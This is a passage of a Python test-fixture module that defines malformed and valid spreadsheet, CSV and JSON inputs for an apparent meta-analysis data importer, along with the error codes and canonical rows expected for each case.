            (3, "m1i", "out_of_scale_range"),
            (3, "m2i", "out_of_scale_range"),
            count=2,
        ),
        _m(
            "cor_out_of_range",
            "r.csv",
            csv_bytes(COR_HEADER, _with(COR_HEADER, COR_ROWS, {(0, "ri"): "1", (2, "ri"): "-1.3"})),
            "COR",
            {"correlation_out_of_range"},
            (2, "ri", "correlation_out_of_range"),
            (4, "ri", "correlation_out_of_range"),
            count=2,
        ),
        _m(
            "cor_n_too_small",
            "cor-n.csv",
            csv_bytes(COR_HEADER, _with(COR_HEADER, COR_ROWS, {(1, "ni"): "3"})),
            "COR",
            {"n_too_small"},
            (3, "ni", "n_too_small"),
            count=1,
        ),
        _m(
            "zcor_n_too_small",
            "zcor-n.csv",
            csv_bytes(COR_HEADER, _with(COR_HEADER, COR_ROWS, {(0, "ni"): "2"})),
            "ZCOR",
            {"n_too_small"},
            (2, "ni", "n_too_small"),
            count=1,
        ),
        _m(
            "cor_non_numeric",
            "cor-text.csv",
            csv_bytes(COR_HEADER, _with(COR_HEADER, COR_ROWS, {(1, "ri"): "0.3*"})),
            "COR",
            {"non_numeric"},
            (3, "ri", "non_numeric"),
            count=1,
        ),
        _m(
            "pr_events_exceed_n",
            "pr.csv",
            csv_bytes(PR_HEADER, _with(PR_HEADER, PR_ROWS, {(2, "xi"): "81"})),
            "PR",
            {"events_exceed_n"},
            (4, "xi", "events_exceed_n"),
            count=1,
        ),
        _m(
            "pr_negative_count",
            "pr-neg.csv",
            csv_bytes(PR_HEADER, _with(PR_HEADER, PR_ROWS, {(0, "xi"): "-2"})),
            "PR",
            {"negative_count"},
            (2, "xi", "negative_count"),
            count=1,
        ),
        _m(
            "pr_n_too_small",
            "pr-n.csv",
            csv_bytes(PR_HEADER, _with(PR_HEADER, PR_ROWS, {(1, "ni"): "1", (1, "xi"): "1"})),
            "PR",
            {"n_too_small"},
            (3, "ni", "n_too_small"),
            count=1,
        ),
        _m(
            "plo_non_numeric",
            "plo.csv",
            csv_bytes(PR_HEADER, _with(PR_HEADER, PR_ROWS, {(1, "xi"): "12%"})),
            "PLO",
            {"non_numeric"},
            (3, "xi", "non_numeric"),
            count=1,
        ),
        _m(
            "plo_not_integer",
            "plo-frac.csv",
            csv_bytes(PR_HEADER, _with(PR_HEADER, PR_ROWS, {(0, "ni"): "120.4"})),
            "PLO",
            {"not_integer"},
            (2, "ni", "not_integer"),
            count=1,
        ),
    ]


def _irr_gen_cases() -> list[MalformedCase]:
    return [
        _m(
            "irr_time_not_positive",
            "irr-t.csv",
            csv_bytes(IRR_HEADER, _with(IRR_HEADER, IRR_ROWS, {(0, "t1i"): "0", (1, "t2i"): "-5"})),
            "IRR",
            {"time_not_positive"},
            (2, "t1i", "time_not_positive"),
            (3, "t2i", "time_not_positive"),
            count=2,
        ),
        _m(
            "irr_negative_count",
            "irr-neg.csv",
            csv_bytes(IRR_HEADER, _with(IRR_HEADER, IRR_ROWS, {(2, "x2i"): "-1"})),
            "IRR",
            {"negative_count"},
            (4, "x2i", "negative_count"),
            count=1,
        ),
        _m(
            "irr_not_integer",
            "irr-frac.csv",
            csv_bytes(IRR_HEADER, _with(IRR_HEADER, IRR_ROWS, {(0, "x1i"): "1.5"})),
            "IRR",
            {"not_integer"},
            (2, "x1i", "not_integer"),
            count=1,
        ),
        _m(
            "irr_missing_column",
            "irr-missing.csv",
            csv_bytes(IRR_HEADER[:-1], [r[:-1] for r in IRR_ROWS]),
            "IRR",
            {"missing_column"},
            (None, "t2i", "missing_column"),
            count=1,
        ),
        _m(
            "gen_variance_not_positive",
            "gen-vi.csv",
            csv_bytes(GEN_HEADER, _with(GEN_HEADER, GEN_ROWS, {(1, "vi"): "0"})),
            "GEN",
            {"variance_not_positive"},
            (3, "vi", "variance_not_positive"),
            count=1,
        ),
        _m(
            "gen_standard_error_negative",
            "gen-se.csv",
            csv_bytes(
                ["study", "instrument", "timepoint", "effect size", "standard error"],
                [
                    ["Smith 2010", "PHQ-9", "post", "-0.35", "0.2"],
                    ["Jones 2012", "BDI-II", "post", "-0.12", "-0.1"],
                ],
            ),
            "GEN",
            {"variance_not_positive"},
            (3, "standard error", "variance_not_positive"),
            count=1,
        ),
        _m(
            "gen_missing_variance_column",
            "gen-novi.csv",
            csv_bytes(GEN_HEADER[:-1], [r[:-1] for r in GEN_ROWS]),
            "GEN",
            {"missing_column"},
            (None, "vi", "missing_column"),
            count=1,
        ),
        _m(
            "gen_missing_value",
            "gen-blank.csv",
            csv_bytes(GEN_HEADER, _with(GEN_HEADER, GEN_ROWS, {(2, "yi"): ""})),
            "GEN",
            {"missing_value"},
            (4, "yi", "missing_value"),
            count=1,
        ),
        _m(
            "gen_non_numeric",
            "gen-text.csv",
            csv_bytes(GEN_HEADER, _with(GEN_HEADER, GEN_ROWS, {(0, "yi"): "-0.35 (0.1)"})),
            "GEN",
            {"non_numeric"},
            (2, "yi", "non_numeric"),
            count=1,
        ),
    ]


#: SMD rows in every input form: means and SDs, Cohen's d, t, a given g with its SE (headers as
#: data managers write them).
MIXED_HEADER = [
    "study",
    "instrument",
    "timepoint",
    "m1i",
    "sd1i",
    "n1i",
    "m2i",
    "sd2i",
    "n2i",
    "Cohen's d",
    "t",
    "yi",
    "SE",
]
MIXED_ROWS = [
    ["Smith 2010", "PHQ-9", "post", "10.2", "3.1", "40", "12.5", "3.3", "38", "", "", "", ""],
    ["Jones 2012", "BDI-II", "post", "", "", "25", "", "", "27", "-0.52", "", "", ""],
    ["Lee 2015", "PHQ-9", "6 months", "", "", "60", "", "", "58", "", "-1.9", "", ""],
    ["Kim 2018", "PHQ-9", "post", "", "", "", "", "", "", "", "", "-0.31", "0.18"],
]
CHANGE_HEADER = ["study", "instrument", "timepoint", "Post mean", "Pre mean", "Pre SD", "N", "r"]
CHANGE_ROWS = [
    ["Smith 2010", "PHQ-9", "post", "38.5", "30.6", "15", "20", "0.47"],
    ["Jones 2012", "BDI-II", "post", "26.8", "23.5", "3.1", "50", "0.64"],
]


def _input_form_cases() -> list[MalformedCase]:
    return [
        _m(
            "smd_row_without_a_complete_form",
            "mixed.csv",
            csv_bytes(
                MIXED_HEADER,
                [*MIXED_ROWS, ["Park 2019", "BDI-II", "post", "", "", "30", "", "", "31", "", "", "", ""]],
            ),
            "SMD",
            {"missing_value"},
            (6, "Cohen's d", "missing_value"),
            count=1,
        ),
        _m(
            "smd_given_standard_error_not_positive",
            "mixed-se.xlsx",
            xlsx_bytes(MIXED_HEADER, _with(MIXED_HEADER, MIXED_ROWS, {(3, "SE"): "0"})),
            "SMD",
            {"variance_not_positive"},
            (5, "SE", "variance_not_positive"),
            count=1,
        ),
        _m(
            "smcr_pre_post_correlation_out_of_range",
            "change.csv",
            csv_bytes(CHANGE_HEADER, _with(CHANGE_HEADER, CHANGE_ROWS, {(1, "r"): "1.2"})),
            "SMCR",
            {"correlation_out_of_range"},
            (3, "r", "correlation_out_of_range"),
            count=1,
        ),
    ]


def _json_cases() -> list[MalformedCase]:
    def rows(**changes: Any) -> bytes:
        out = [dict(zip(SMD_HEADER, r, strict=True)) for r in SMD_ROWS]
        for key, value in changes.items():
            index, column = key.split("__")
            out[int(index)][column] = value
        return json.dumps(out).encode()

    aliased = [dict(zip(SMD_HEADER, r, strict=True)) for r in SMD_ROWS]
    aliased[2]["mean_treatment"] = aliased[2].pop("m1i")
    return [
        _m(
            "json_same_column_under_two_names",
            "rows.json",
            json.dumps(aliased).encode(),
            "SMD",
            # the second spelling is not read, so item 3 lacks the mean in the first one
            {"duplicate_column", "missing_value"},
            (None, "mean_treatment", "duplicate_column"),
            (3, "m1i", "missing_value"),
            count=2,
        ),
        _m(
            "json_boolean_in_numeric",
            "rows.json",
            rows(**{"0__n1i": True}),
            "SMD",
            {"non_numeric"},
            (1, "n1i", "non_numeric"),
            count=1,
        ),
        _m(
            "json_list_as_study",
            "rows.json",
            rows(**{"1__study": ["Smith", "2010"]}),
            "SMD",
            {"invalid_value"},
            (2, "study", "invalid_value"),
            count=1,
        ),
        _m(
            "json_nan_value",
            "rows.json",
            rows(**{"2__m1i": float("nan")}),
            "SMD",
            {"non_numeric"},
            (3, "m1i", "non_numeric"),
            count=1,
        ),
    ]


def _five_problems() -> MalformedCase:
    """One file, five different problems: all must be reported at once."""
    rows = changed(SMD_HEADER, SMD_ROWS, {(0, "study"): "", (1, "m1i"): "twelve", (2, "sd2i"): "-2"})
    rows.append(["Jones 2012", "BDI-II", "post", "15.0", "4.2", "1", "17.1", "4.0", "27"])
    return _m(
        "five_different_problems",
        "five.csv",
        csv_bytes(SMD_HEADER, rows),
        "SMD",
        {"missing_study", "non_numeric", "sd_not_positive", "n_too_small", "duplicate_row"},
        (2, "study", "missing_study"),
        (3, "m1i", "non_numeric"),
        (4, "sd2i", "sd_not_positive"),
        (5, "study", "duplicate_row"),
        (5, "n1i", "n_too_small"),
        count=5,
    )


malformed_cases: list[MalformedCase] = [
    *_FILE_LEVEL,
    *_STRUCTURE,
    *_FORMULAS,
    *_smd_value_cases(),
    *_table_cases(),
    *_correlation_proportion_cases(),
    *_irr_gen_cases(),
    *_input_form_cases(),
    *_json_cases(),
    _five_problems(),
]


# --------------------------------------------------------------------------------------------
# Valid cases


def row(study: str, **values: Any) -> dict[str, Any]:
    """An expected canonical row: identity columns first (None unless given), then ``values``."""
    out: dict[str, Any] = {
        "study": study,
        "comparison": None,
        "instrument": None,
        "timepoint": None,
        "year": None,
    }
    out.update(values)
    return out


def _smd(m1: float, sd1: float, n1: int, m2: float, sd2: float, n2: int) -> dict[str, Any]:
    return {"m1i": m1, "sd1i": sd1, "n1i": n1, "m2i": m2, "sd2i": sd2, "n2i": n2}


def _valid_semicolon_cp1252() -> ValidCase:
    content = raw_lines(
        [
            "Study;Instrument;Time point;Mean intervention;SD intervention;N intervention;Mean control;"
            "SD control;N control;Age mean;Region",
            "Müller 2019;phq-9;post;10,5;3,25;40;12,75;3,5;38;34,5;Süd",
            "Gómez 2020;BDI-II;6 Months;15;4,1;25;17,2;4;27;41;Nord",
            "",
        ],
        encoding="cp1252",
    )
    return ValidCase(
        "semicolon_decimal_comma_cp1252",
        "données.csv",
        content,
        "SMD",
        (
            row(
                "Müller 2019",
                instrument="PHQ-9",
                timepoint="post",
                **_smd(10.5, 3.25, 40, 12.75, 3.5, 38),
                age_mean=34.5,
                region="Süd",
            ),
            row(
                "Gómez 2020",
                instrument="BDI-II",
                timepoint="6 months",
                **_smd(15.0, 4.1, 25, 17.2, 4.0, 27),
                age_mean=41.0,
                region="Nord",
            ),
        ),
        "csv",
        "cp1252",
        ";",
        frozenset({"encoding_fallback", "decimal_comma"}),
        {
            "Mean intervention": "m1i",
            "SD control": "sd2i",
            "N intervention": "n1i",
            "Time point": "timepoint",
            "Age mean": "age_mean",
        },
    )


def _valid_bom_aliases() -> ValidCase:
    content = codecs.BOM_UTF8 + raw_lines(
        [
            "  STUDY ID , Scale ,Wave, Mean_Treatment ,sd_t,n1,m_c,SD2,N Control,Notes,",
            '"Smith, J. (2010)",PHQ-9,post, 10.2 ,3.1,40,12.5,3.3,38,"first\nsecond",',
            ",,,,,,,,,,",
            "Jones 2012,BDI-II,post,15,4.2,25.0,17.1,4,27,,",
            "",
            "",
        ]
    )
    return ValidCase(
        "utf8_bom_aliases_spaces_quotes",
        "export.csv",
        content,
        "SMD",
        (
            row(
                "Smith, J. (2010)",
                instrument="PHQ-9",
                timepoint="post",
                **_smd(10.2, 3.1, 40, 12.5, 3.3, 38),
                Notes="first second",
            ),
            row(
                "Jones 2012",
                instrument="BDI-II",
                timepoint="post",
                **_smd(15.0, 4.2, 25, 17.1, 4.0, 27),
                Notes=None,
            ),
        ),
        "csv",
        "utf-8-sig",
        ",",
        frozenset({"extra_column"}),
        {
            "STUDY ID": "study",
            "Scale": "instrument",
            "Wave": "timepoint",
            "Mean_Treatment": "m1i",
            "sd_t": "sd1i",
            "n1": "n1i",
            "m_c": "m2i",
            "SD2": "sd2i",
            "N Control": "n2i",
            "Notes": "Notes",
        },
    )


def _valid_utf16_tab() -> ValidCase:
    text = (
        "\r\n".join(
            [
                "study\tinstrument\ttimepoint\tm1i\tsd1i\tn1i\tm2i\tsd2i\tn2i",
                "Øvergaard 2018\tPHQ-9\tpost\t9,75\t2,5\t31\t11\t2,75\t30",
                "Łukasz 2021\tBDI-II\t6 months\t-1,5\t0,5\t12\t-1\t0,75\t12",
            ]
        )
        + "\r\n"
    )
    return ValidCase(
        "utf16_tab_decimal_comma",
        "unicode.txt",
        codecs.BOM_UTF16_LE + text.encode("utf-16-le"),
        "MD",
        (
            row(
                "Øvergaard 2018", instrument="PHQ-9", timepoint="post", **_smd(9.75, 2.5, 31, 11.0, 2.75, 30)
            ),
            row(
                "Łukasz 2021",
                instrument="BDI-II",
                timepoint="6 months",
                **_smd(-1.5, 0.5, 12, -1.0, 0.75, 12),
            ),
        ),
        "csv",
        "utf-16",
        "\t",
        frozenset({"decimal_comma"}),
    )


def _valid_pipe_sep_line() -> ValidCase:
    content = raw_lines(
        [
            "sep=|",
            "study|instrument|timepoint|yi|se|year|comparison",
            "Smith 2010|PHQ-9|post|-0.35|0.2|2010|CBT vs waitlist",
            "Smith 2010|PHQ-9|post|-0.2|0.25|2010|CBT vs usual care",
        ],
        newline="\n",
    )
    return ValidCase(
        "pipe_delimited_with_sep_line_gen_se",
        "gen.csv",
        content,
        "GEN",
        (
            row(
                "Smith 2010",
                comparison="CBT vs waitlist",
                instrument="PHQ-9",
                timepoint="post",
                year=2010,
                yi=-0.35,
                vi=0.2**2,
                sei=0.2,
            ),
            row(
                "Smith 2010",
                comparison="CBT vs usual care",
                instrument="PHQ-9",
                timepoint="post",
                year=2010,
                yi=-0.2,
                vi=0.25**2,
                sei=0.25,
            ),
        ),
        "csv",
        "utf-8",
        "|",
        frozenset({"derived_column"}),
        {"se": "sei"},
    )


def _valid_xlsx_data_sheet() -> ValidCase:
    header = [
        "Author year",
        "Measure",
        "Time",
        "Mean TX",
        "SD TX",
        "N TX",
        "Mean ctrl",
        "SD ctrl",
        "N ctrl",
        "Region",
        "Year",
    ]
    rows = [
        ["Nakamura 2016", "PHQ-9", "post", 10.5, 3.25, 40.0, "12.75", 3.5, 38, 3, 2016.0],
        [None] * 11,
        ["Okafor 2018", "bdi-ii", "6 months", 15, 4.1, 25, 17.2, 4, 27, "west", 2018],
    ]
    content = xlsx_bytes(header, rows, title="Data", before=[("Read me", [["This sheet is not data"]])])
    return ValidCase(
        "xlsx_second_sheet_named_data",
        "centre.xlsx",
        content,
        "SMD",
        (
            row(
                "Nakamura 2016",
                instrument="PHQ-9",
                timepoint="post",
                year=2016,
                **_smd(10.5, 3.25, 40, 12.75, 3.5, 38),
                region="3",
            ),
            row(
                "Okafor 2018",
                instrument="BDI-II",
                timepoint="6 months",
                year=2018,
                **_smd(15.0, 4.1, 25, 17.2, 4.0, 27),
                region="west",
            ),
        ),
        "xlsx",
        None,
        None,
        frozenset(),
        {
            "Author year": "study",
            "Measure": "instrument",
            "Time": "timepoint",
            "Mean TX": "m1i",
            "N ctrl": "n2i",
        },
    )


def _valid_or_events_totals() -> ValidCase:
    content = csv_bytes(
        [
            "Study name",
            "Instrument",
            "Timepoint",
            "Events treatment",
            "N treatment",
            "Events control",
            "N control",
        ],
        [
            ["Smith 2010", "PHQ-9", "post", "12", "40", "20", "38"],
            ["Jones 2012", "BDI-II", "post", "0", "50", "3", "50"],
        ],
    )
    return ValidCase(
        "or_events_and_group_sizes",
        "or.csv",
        content,
        "OR",
        (
            row(
                "Smith 2010", instrument="PHQ-9", timepoint="post", ai=12, bi=28, ci=20, di=18, n1i=40, n2i=38
            ),
            row(
                "Jones 2012", instrument="BDI-II", timepoint="post", ai=0, bi=50, ci=3, di=47, n1i=50, n2i=50
            ),
        ),
        "csv",
        "utf-8",
        ",",
        frozenset({"derived_column"}),
        {"Events treatment": "ai", "N treatment": "n1i", "Events control": "ci", "N control": "n2i"},
    )


def _valid_cor_thousands() -> ValidCase:
    content = csv_bytes(
        ["study", "instrument", "timepoint", "r", "sample size", "age_mean"],
        [
            ["Smith 2010", "PHQ-9", "post", "0.32", "1,234", "41.5"],
            ["Jones 2012", "BDI-II", "post", "−0.15", "85", ""],
        ],
    )
    return ValidCase(
        "cor_aliases_english_thousands",
        "cor.csv",
        content,
        "COR",
        (
            row("Smith 2010", instrument="PHQ-9", timepoint="post", ri=0.32, ni=1234, age_mean=41.5),
            row("Jones 2012", instrument="BDI-II", timepoint="post", ri=-0.15, ni=85, age_mean=None),
        ),
        "csv",
        "utf-8",
        ",",
        frozenset(),
        {"r": "ri", "sample size": "ni"},
    )


def _valid_irr_german() -> ValidCase:
    content = csv_bytes(
        IRR_HEADER,
        [
            ["Weber 2011", "PHQ-9", "post", "8", "1.250,5", "15", "1.198"],
            ["Fischer 2014", "BDI-II", "post", "3", "880,25", "7", "901"],
        ],
        delimiter=";",
    )
    return ValidCase(
        "irr_german_thousands_and_decimal_comma",
        "irr.csv",
        content,
        "IRR",
        (
            row("Weber 2011", instrument="PHQ-9", timepoint="post", x1i=8, t1i=1250.5, x2i=15, t2i=1198.0),
            row("Fischer 2014", instrument="BDI-II", timepoint="post", x1i=3, t1i=880.25, x2i=7, t2i=901.0),
        ),
        "csv",
        "utf-8",
        ";",
        frozenset({"decimal_comma"}),
    )


def _valid_json_pr() -> ValidCase:
    rows = [
        {
            "Study": "Smith 2010",
            "instrument": "PHQ-9",
            "timepoint": "post",
            "events": 14,
            "n": 120,
            "region": "north",
            "outcome": "Depression",
        },
        {
            "Study": "Jones 2012",
            "instrument": "BDI-II",
            "timepoint": None,
            "events": "0",
            "n": 45.0,
            "outcome": "depression",
        },
    ]
    return ValidCase(
        "json_file_pr_aliases",
        "rows.json",
        json.dumps(rows).encode(),
        "PR",
        (
            row("Smith 2010", instrument="PHQ-9", timepoint="post", xi=14, ni=120, region="north"),
            row("Jones 2012", instrument="BDI-II", xi=0, ni=45, region=None),
        ),
        "json",
        "utf-8",
        None,
        frozenset(),
        {"events": "xi", "n": "ni", "outcome": "outcome"},
    )


def _valid_no_extension() -> ValidCase:
    return ValidCase(
        "no_extension_content_type_csv",
        "upload",
        smd_csv(),
        "SMD",
        tuple(
            row(
                r[0],
                instrument=r[1],
                timepoint=r[2],
                **_smd(float(r[3]), float(r[4]), int(r[5]), float(r[6]), float(r[7]), int(r[8])),
            )
            for r in SMD_ROWS
        ),
        "csv",
        "utf-8",
        ",",
        frozenset(),
        content_type="text/csv; charset=utf-8",
    )


def _valid_mixed_forms(fmt: str) -> ValidCase:
    rows = [[None if v == "" else v for v in r] for r in MIXED_ROWS]
    content = csv_bytes(MIXED_HEADER, rows) if fmt == "csv" else xlsx_bytes(MIXED_HEADER, rows)
    blank = dict.fromkeys(["m1i", "sd1i", "n1i", "m2i", "sd2i", "n2i", "di", "ti", "yi", "sei"])
    return ValidCase(
        f"smd_every_input_form_in_one_{fmt}",
        f"mixed.{fmt}",
        content,
        "SMD",
        (
            row(
                "Smith 2010",
                instrument="PHQ-9",
                timepoint="post",
                **{**blank, **_smd(10.2, 3.1, 40, 12.5, 3.3, 38)},
            ),
            row(
                "Jones 2012",
                instrument="BDI-II",
                timepoint="post",
                **{**blank, "n1i": 25, "n2i": 27, "di": -0.52},
            ),
            row(
                "Lee 2015",
                instrument="PHQ-9",
                timepoint="6 months",
                **{**blank, "n1i": 60, "n2i": 58, "ti": -1.9},
            ),
            row("Kim 2018", instrument="PHQ-9", timepoint="post", **{**blank, "yi": -0.31, "sei": 0.18}),
        ),
        fmt,
        "utf-8" if fmt == "csv" else None,
        "," if fmt == "csv" else None,
        frozenset({"input_forms"}),
        {"Cohen's d": "di", "t": "ti", "SE": "sei"},
    )


def _valid_change_scores() -> ValidCase:
    return ValidCase(
        "smcr_pre_post_aliases",
        "change.csv",
        csv_bytes(CHANGE_HEADER, CHANGE_ROWS),
        "SMCR",
        (
            row(
                "Smith 2010",
                instrument="PHQ-9",
                timepoint="post",
                m1i=38.5,
                m2i=30.6,
                sd1i=15.0,
                ni=20,
                ri=0.47,
            ),
            row(
                "Jones 2012",
                instrument="BDI-II",
                timepoint="post",
                m1i=26.8,
                m2i=23.5,
                sd1i=3.1,
                ni=50,
                ri=0.64,
            ),
        ),
        "csv",
        "utf-8",
        ",",
        frozenset(),
        {"Post mean": "m1i", "Pre mean": "m2i", "Pre SD": "sd1i", "N": "ni", "r": "ri"},
    )


def _valid_one_group_mean() -> ValidCase:
    content = xlsx_bytes(
        ["Study", "Scale", "Wave", "Mean", "SD", "n"],
        [
            ["De Fronzo 1995", "PHQ-9", "post", 0.2, 1.446, 209],
            ["Lewin 2007", "BDI-II", "6 months", 0.08, 1.004, 144],
        ],
    )
    return ValidCase(
        "mn_mean_sd_n_aliases",
        "means.xlsx",
        content,
        "MN",
        (
            row("De Fronzo 1995", instrument="PHQ-9", timepoint="post", mi=0.2, sdi=1.446, ni=209),
            row("Lewin 2007", instrument="BDI-II", timepoint="6 months", mi=0.08, sdi=1.004, ni=144),
        ),
        "xlsx",
        None,
        None,
        frozenset(),
        {"Mean": "mi", "SD": "sdi", "n": "ni"},
    )


valid_cases: list[ValidCase] = [
    _valid_semicolon_cp1252(),
    _valid_bom_aliases(),
    _valid_utf16_tab(),
    _valid_pipe_sep_line(),
    _valid_xlsx_data_sheet(),
    _valid_or_events_totals(),
    _valid_cor_thousands(),
    _valid_irr_german(),
    _valid_json_pr(),
    _valid_no_extension(),
    _valid_mixed_forms("csv"),
    _valid_mixed_forms("xlsx"),
    _valid_change_scores(),
    _valid_one_group_mean(),
]
